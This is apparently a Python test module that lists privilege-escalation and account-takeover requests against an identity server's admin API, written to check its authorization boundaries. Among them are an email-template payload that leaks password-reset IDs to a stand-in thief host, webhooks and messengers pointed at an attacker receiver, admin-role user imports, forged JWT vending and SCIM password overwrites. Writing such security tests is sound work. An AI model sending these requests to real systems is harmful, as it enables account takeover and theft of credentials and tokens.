"""The calls that aim at the administrators, by subject: each is a route by which a caller has become one somewhere."""

from __future__ import annotations

from typing import Final

from identity.app import ADMINISTRATOR_APPLICATION_ID as CONSOLE
from identity.ids import new_id
from tests import two_factor
from tests.boundary import attacks
from tests.boundary.attacks import Attack
from tests.boundary.world import DEFAULT_TENANT, PASSWORD, REDIRECT_URI, STOLEN

TENANT: Final = "/api/tenant/{tenantId}"
APPLICATION: Final = "/api/application/{applicationId}"
USER: Final = "/api/user/{victimId}"
PERSON: Final = "/api/user/{personId}"

ATTACKS: Final[list[Attack]] = [
    # The tenant: mails, sign-in and second factors
    Attack("PATCH", TENANT, attacks.mails),
    Attack(
        "PATCH",
        TENANT,
        attacks.tenant(multiFactorConfiguration={"loginPolicy": "Disabled", "authenticator": {"enabled": False}}),
    ),
    Attack("PATCH", TENANT, attacks.tenant(baseURL="https://thief.example.com")),
    Attack("PATCH", TENANT, lambda t: {"tenant": {"themeId": t.known("themeId")}}),
    Attack(
        "PATCH",
        TENANT,
        lambda t: {
            "tenant": {
                "connectorPolicies": [
                    {"connectorId": t.world.planted["connectorId"], "domains": ["*"], "migrate": t.rng.random() < 0.5}
                ]
            }
        },
    ),
    Attack(
        "PATCH",
        TENANT,
        lambda t: {"tenant": {"lambdaConfiguration": {"loginValidationId": t.world.planted["LoginValidation"]}}},
    ),
    Attack(
        "PATCH",
        TENANT,
        attacks.tenant(
            externalIdentifierConfiguration={
                "changePasswordIdGenerator": {"length": 4, "type": "randomDigits"},
                "passwordlessLoginGenerator": {"length": 4, "type": "randomDigits"},
            }
        ),
    ),
    Attack("PATCH", TENANT, lambda t: {"tenant": {"phoneConfiguration": {"messengerId": t.known("messengerId")}}}),
    Attack("PATCH", TENANT, lambda t: {"tenant": {"jwtConfiguration": {"accessTokenKeyId": t.known("keyId")}}}),
    Attack("PATCH", TENANT, attacks.tenant(ssoConfiguration={"deviceTrustTimeToLiveInSeconds": 31536000})),
    Attack(
        "PATCH",
        TENANT,
        lambda t: {"tenant": {"scimServerConfiguration": {"clientEntityTypeId": t.known("entityTypeId")}}},
    ),
    Attack("PATCH", TENANT, attacks.tenant(webAuthnConfiguration={"relyingPartyId": "example.com"})),
    Attack(
        "PATCH", TENANT, attacks.tenant(userDeletePolicy={"unverified": {"enabled": True, "numberOfDaysToRetain": 1}})
    ),
    Attack("PATCH", TENANT, attacks.tenant(failedAuthenticationConfiguration={"tooManyAttempts": 1})),
    Attack("DELETE", TENANT, query=lambda _: {"async": "false"}),
    Attack("POST", "/api/tenant", lambda t: {"sourceTenantId": DEFAULT_TENANT, "tenant": {"name": new_id()}}),
    # Templates, themes, messengers, lambdas, connectors
    Attack(
        "PATCH",
        "/api/email/template/{emailTemplateId}",
        lambda _: {"emailTemplate": {"defaultHtmlTemplate": f"<img src='{STOLEN}${{changePasswordId!''}}'>"}},
    ),
    Attack("POST", "/api/email/send/{emailTemplateId}", lambda t: {"userIds": [t.user["id"]]}),
    Attack(
        "PATCH",
        "/api/theme/{themeId}",
        lambda _: {"theme": {"templates": {"oauth2Authorize": f"<p>{attacks.MARK}</p>"}}},
    ),
    Attack("PATCH", "/api/messenger/{messengerId}", lambda t: {"messenger": {"url": t.world.attacker.receiver.url}}),
    Attack("PATCH", "/api/lambda/{lambdaId}", lambda t: {"lambda": {"body": t.known("body")}}),
    Attack("PATCH", "/api/connector/{connectorId}", lambda t: {"connector": {"debug": True}}),
    # Users, registrations, groups
    Attack("PATCH", USER, lambda _: {"user": {"password": attacks.STOLEN_PASSWORD}}),
    Attack("PATCH", USER, lambda _: {"user": {"email": f"{new_id()}@thief.example.com"}}),
    Attack("PATCH", USER, lambda _: {"user": {"twoFactor": {"methods": []}}}),
    Attack("PATCH", USER, lambda _: {"user": {"mobilePhone": "+15555550100", "username": new_id()}}),
    Attack("PATCH", USER, lambda _: {"user": {"parentEmail": "parent@thief.example.com"}}),
    Attack("DELETE", USER, query=lambda t: {"hardDelete": t.rng.choice(["true", "false"])}),
    Attack("DELETE", "/api/user/bulk", lambda t: {"userIds": [t.user["id"]], "hardDelete": True}),
    Attack(
        "DELETE",
        "/api/user/bulk",
        query=lambda t: {"queryString": t.user["email"], "hardDelete": "true", "dryRun": "false"},
    ),
    Attack("PUT", USER, query=lambda _: {"reactivate": "true"}),
    Attack("POST", "/api/user", lambda t: {"user": attacks.new_user(username=t.user["email"])}),
    Attack(
        "POST", "/api/user", lambda t: {"user": attacks.new_user(memberships=[{"groupId": t.world.planted["groupId"]}])}
    ),
    Attack(
        "POST",
        "/api/user/import",
        lambda t: {
            "users": [
                attacks.new_user(
                    tenantId=DEFAULT_TENANT, registrations=[{"applicationId": CONSOLE, "roles": ["admin"]}]
                )
            ]
        },
    ),
    Attack(
        "POST",
        "/api/user/import",
        lambda t: {
            "users": [attacks.new_user(tenantId=DEFAULT_TENANT, memberships=[{"groupId": t.world.planted["groupId"]}])]
        },
    ),
    Attack(
        "POST",
        "/api/user/import",
        lambda t: {"users": [attacks.new_user(id=t.user["id"], email=t.user["email"], tenantId=DEFAULT_TENANT)]},
    ),
    Attack("POST", "/api/user/registration/{personId}", attacks.registration(["admin"])),
    Attack("POST", "/api/user/registration/{personId}", attacks.registration(["tenant-admin"])),
    Attack("POST", "/api/user/registration/{personId}", attacks.registration(["user-manager", "developer"])),
    Attack("POST", "/api/user/registration/{personId}", attacks.registration([])),
    Attack(
        "POST", "/api/user/registration", lambda t: {"user": attacks.new_user(), **attacks.registration(["admin"])(t)}
    ),
    Attack("PATCH", "/api/user/registration/{victimId}/{console}", attacks.registration([])),
    Attack("PATCH", "/api/user/registration/{personId}/{console}", attacks.registration(["admin"])),
    Attack("DELETE", "/api/user/registration/{victimId}/{console}"),
    Attack(
        "POST",
        "/api/group/member",
        lambda t: {"members": {t.world.planted["groupId"]: [{"userId": t.world.attacker.person["id"]}]}},
    ),
    Attack(
        "PUT",
        "/api/group/member",
        lambda t: {"members": {t.world.planted["groupId"]: [{"userId": t.world.attacker.person["id"]}]}},
    ),
    Attack(
        "POST",
        "/api/group/member",
        lambda t: {"members": {t.known("groupId"): [{"userId": t.world.attacker.person["id"]}]}},
    ),
    Attack("DELETE", "/api/group/member", query=lambda t: {"groupId": t.world.planted["groupId"]}),
    Attack("DELETE", "/api/group/{groupId}"),
    Attack("PATCH", "/api/group/{groupId}", lambda t: {"roleIds": [t.world.planted["roleId"]]}),
    Attack("POST", "/api/group", lambda t: {"group": {"name": new_id()}, "roleIds": [t.world.planted["roleId"]]}),
    # Passwords, factors, passkeys, tokens
    Attack(
        "POST", "/api/user/change-password", lambda t: {"loginId": t.user["email"], "password": attacks.STOLEN_PASSWORD}
    ),
    Attack(
        "POST", "/api/user/forgot-password", lambda t: {"loginId": t.user["email"], "sendForgotPasswordEmail": False}
    ),
    Attack(
        "POST",
        "/api/user/forgot-password",
        lambda t: {"loginId": t.user["email"], "applicationId": t.world.rp.client_id},
    ),
    Attack("POST", "/api/user/forgot-password", lambda t: {"loginId": t.user["email"], "changePasswordId": new_id()}),
    Attack("GET", "/api/user/two-factor/recovery-code/{victimId}"),
    Attack("POST", "/api/user/two-factor/recovery-code/{victimId}"),
    Attack(
        "POST", "/api/user/two-factor/{victimId}", lambda t: {**two_factor.authenticator(), "code": attacks.code(t)}
    ),
    Attack(
        "DELETE", "/api/user/two-factor/{victimId}", query=lambda t: {"methodId": new_id(), "code": attacks.code(t)}
    ),
    Attack(
        "POST", "/api/two-factor/start", lambda t: {"loginId": t.user["email"], "applicationId": t.world.rp.client_id}
    ),
    Attack(
        "POST",
        "/api/two-factor/send",
        lambda t: {"userId": t.user["id"], "method": "email", "email": "thief@thief.example.com"},
    ),
    Attack("POST", "/api/webauthn/import", lambda t: {"credentials": [attacks.passkey(t.user["id"])]}),
    Attack(
        "POST",
        "/api/webauthn/register/start",
        lambda t: {"userId": t.user["id"], "displayName": "Mine", "workflow": "general"},
    ),
    Attack("DELETE", "/api/webauthn", query=lambda t: {"userId": t.user["id"]}),
    Attack(
        "POST",
        "/api/user/refresh-token/import",
        lambda t: {
            "refreshTokens": [
                {
                    "applicationId": t.rng.choice([CONSOLE, t.world.rp.client_id]),
                    "userId": t.user["id"],
                    "token": new_id(),
                }
            ]
        },
    ),
    Attack("GET", "/api/jwt/refresh", query=lambda t: {"userId": t.user["id"]}),
    Attack(
        "POST",
        "/api/jwt/vend",
        lambda t: {"claims": {"sub": t.user["id"], "applicationId": CONSOLE, "roles": ["admin"]}},
    ),
    Attack(
        "POST",
        "/api/passwordless/start",
        lambda t: {"loginId": t.user["email"], "applicationId": t.rng.choice([CONSOLE, t.world.rp.client_id])},
    ),
    Attack(
        "POST",
        "/api/passwordless/send",
        lambda t: {"loginId": t.user["email"], "applicationId": t.rng.choice([CONSOLE, t.world.rp.client_id])},
    ),
    Attack(
        "PUT",
        "/api/login",
        lambda t: {"userId": t.user["id"], "applicationId": t.rng.choice([CONSOLE, t.world.rp.client_id])},
    ),
    Attack("PUT", "/api/login/{victimId}/{applicationId}"),
    # Verifications, actions, families, consents, links
    Attack("PUT", "/api/user/verify-email", query=lambda t: {"email": t.user["email"], "sendVerifyEmail": "false"}),
    Attack(
        "POST",
        "/api/identity/verify/start",
        lambda t: {"loginId": t.user["email"], "loginIdType": "email", "applicationId": t.world.rp.client_id},
    ),
    Attack(
        "POST",
        "/api/user/action",
        lambda t: {
            "broadcast": False,
            "action": {
                "actioneeUserId": t.user["id"],
                "actionerUserId": t.world.attacker.person["id"],
                "userActionId": t.known("userActionId"),
                "expiry": 253402300799000,
            },
        },
    ),
    Attack(
        "POST",
        "/api/user/family",
        lambda t: {"familyMember": {"userId": t.user["id"], "owner": False, "role": "Child"}},
    ),
    Attack(
        "POST",
        "/api/user/consent",
        lambda t: {
            "userConsent": {
                "userId": t.user["id"],
                "giverUserId": t.user["id"],
                "consentId": t.known("consentId"),
                "status": "Active",
            }
        },
    ),
    Attack(
        "POST",
        "/api/identity-provider/link",
        lambda t: {
            "identityProviderLink": {
                "identityProviderId": t.world.planted["identityProviderId"],
                "identityProviderUserId": "linked",
                "userId": t.user["id"],
            }
        },
    ),
    # Providers, applications, keys, entities
    Attack("POST", "/api/identity-provider", attacks.provider()),
    Attack("POST", "/api/identity-provider", attacks.provider(CONSOLE)),
    Attack(
        "POST",
        "/api/identity-provider",
        attacks.provider(linkingStrategy="LinkByEmailForExistingUser", domains=["example.com"]),
    ),
    Attack(
        "PATCH",
        "/api/identity-provider/{identityProviderId}",
        lambda t: {
            "identityProvider": {"applicationConfiguration": {CONSOLE: {"enabled": True, "createRegistration": True}}}
        },
    ),
    Attack(
        "PATCH",
        "/api/identity-provider/{identityProviderId}",
        lambda t: {
            "identityProvider": {
                "lambdaConfiguration": {"reconcileId": t.world.planted["OpenIDReconcile"]},
                "debug": True,
            }
        },
    ),
    Attack(
        "PATCH",
        "/api/application/{console}",
        lambda t: {"application": {"registrationConfiguration": {"enabled": True}}},
    ),
    Attack(
        "PATCH",
        "/api/application/{console}",
        lambda t: {
            "application": {
                "oauthConfiguration": {"authorizedRedirectURLs": [REDIRECT_URI]},
                "passwordlessConfiguration": {"enabled": True},
            }
        },
    ),
    Attack("DELETE", "/api/application/{console}", query=lambda _: {"hardDelete": "true"}),
    Attack("POST", "/api/application/{console}/role", lambda _: {"role": {"name": new_id(), "isDefault": True}}),
    Attack("PATCH", "/api/application/{console}/role/{roleId}", lambda _: {"role": {"isDefault": True}}),
    Attack("DELETE", "/api/application/{console}/role", query=lambda _: {"name": "admin"}),
    Attack("POST", "/api/application", lambda t: {"application": {"name": new_id()}, "sourceApplicationId": CONSOLE}),
    Attack("PATCH", APPLICATION, lambda t: {"application": {"universalConfiguration": {"universal": True}}}),
    Attack(
        "PATCH",
        APPLICATION,
        lambda t: {"application": {"lambdaConfiguration": {"accessTokenPopulateId": t.world.planted["JWTPopulate"]}}},
    ),
    Attack(
        "PATCH",
        APPLICATION,
        lambda t: {
            "application": {
                "themeId": t.known("themeId"),
                "registrationConfiguration": {"enabled": True, "type": "basic"},
            }
        },
    ),
    Attack(
        "PATCH",
        APPLICATION,
        lambda t: {
            "application": {"emailConfiguration": {"forgotPasswordEmailTemplateId": t.world.planted["emailTemplateId"]}}
        },
    ),
    Attack("PATCH", APPLICATION, lambda t: {"application": {"multiFactorConfiguration": {"loginPolicy": "Disabled"}}}),
    Attack(
        "POST",
        "/api/key/import",
        lambda t: {
            "key": {
                "name": new_id(),
                "type": "HMAC",
                "algorithm": "HS256",
                "secret": "a secret of the thief, with 32 bytes",
            }
        },
    ),
    Attack("PUT", "/api/key/{keyId}", lambda t: {"key": {"name": new_id()}}),
    Attack("POST", "/api/entity", lambda t: {"entity": {"name": new_id(), "type": {"id": t.known("entityTypeId")}}}),
    Attack(
        "POST",
        "/api/entity/{scimServerId}/grant",
        lambda t: {
            "grant": {"recipientEntityId": t.world.planted["scimClientId"], "permissions": ["scim:user:update"]}
        },
    ),
    Attack(
        "POST",
        "/api/entity/{scimServerId}/grant",
        lambda t: {"grant": {"userId": t.world.attacker.person["id"], "permissions": ["scim:user:update"]}},
    ),
    Attack("GET", "/api/entity/{scimClientId}"),
    Attack(
        "POST",
        "/api/webhook",
        lambda t: {
            "webhook": {
                "url": t.world.attacker.receiver.url,
                "global": True,
                "connectTimeout": 500,
                "readTimeout": 1000,
                "eventsEnabled": dict.fromkeys(
                    ("user.password.reset.send", "user.update", "user.login.success", "user.password.update"), True
                ),
            }
        },
    ),
    Attack("POST", "/api/user/search", lambda t: {"search": {"queryString": t.user["email"], "numberOfResults": 5}}),
    Attack("GET", USER),
    Attack("GET", "/api/system/audit-log/search"),
    Attack("GET", "/api/system/event-log/search"),
    Attack("GET", "/api/system/webhook-event-log/search"),
    # SCIM
    Attack("PATCH", f"{attacks.SCIM}/Users/{{victimId}}", attacks.scim_patch("password", attacks.STOLEN_PASSWORD)),
    Attack("PATCH", f"{attacks.SCIM}/Users/{{victimId}}", attacks.scim_patch("active", value=False)),
    Attack("PATCH", f"{attacks.SCIM}/Users/{{victimId}}", attacks.scim_patch("userName", lambda _: new_id())),
    Attack("DELETE", f"{attacks.SCIM}/Users/{{victimId}}"),
    Attack(
        "POST",
        f"{attacks.SCIM}/Users",
        lambda t: {"schemas": [attacks.SCIM_USER], "userName": t.user["email"], "password": PASSWORD},
    ),
    Attack("PATCH", f"{attacks.SCIM}/Groups/{{groupId}}", attacks.scim_patch("members", attacks.members_of)),
    Attack("DELETE", f"{attacks.SCIM}/Groups/{{groupId}}"),
    Attack(
        "POST",
        f"{attacks.SCIM}/Groups",
        lambda t: {
            "schemas": ["urn:ietf:params:scim:schemas:core:2.0:Group"],
            "displayName": new_id(),
            "members": attacks.members_of(t),
        },
    ),
    Attack("GET", f"{attacks.SCIM}/Users/{{victimId}}"),
    Attack(
        "POST",
        f"{attacks.SCIM}/Bulk",
        lambda t: {
            "schemas": ["urn:ietf:params:scim:api:messages:2.0:BulkRequest"],
            "Operations": [
                {
                    "method": "PATCH",
                    "path": f"/Users/{t.user['id']}",
                    "data": {
                        "schemas": [attacks.PATCH_OP],
                        "Operations": [{"op": "replace", "path": "password", "value": attacks.STOLEN_PASSWORD}],
                    },
                }
            ],
        },
    ),
]
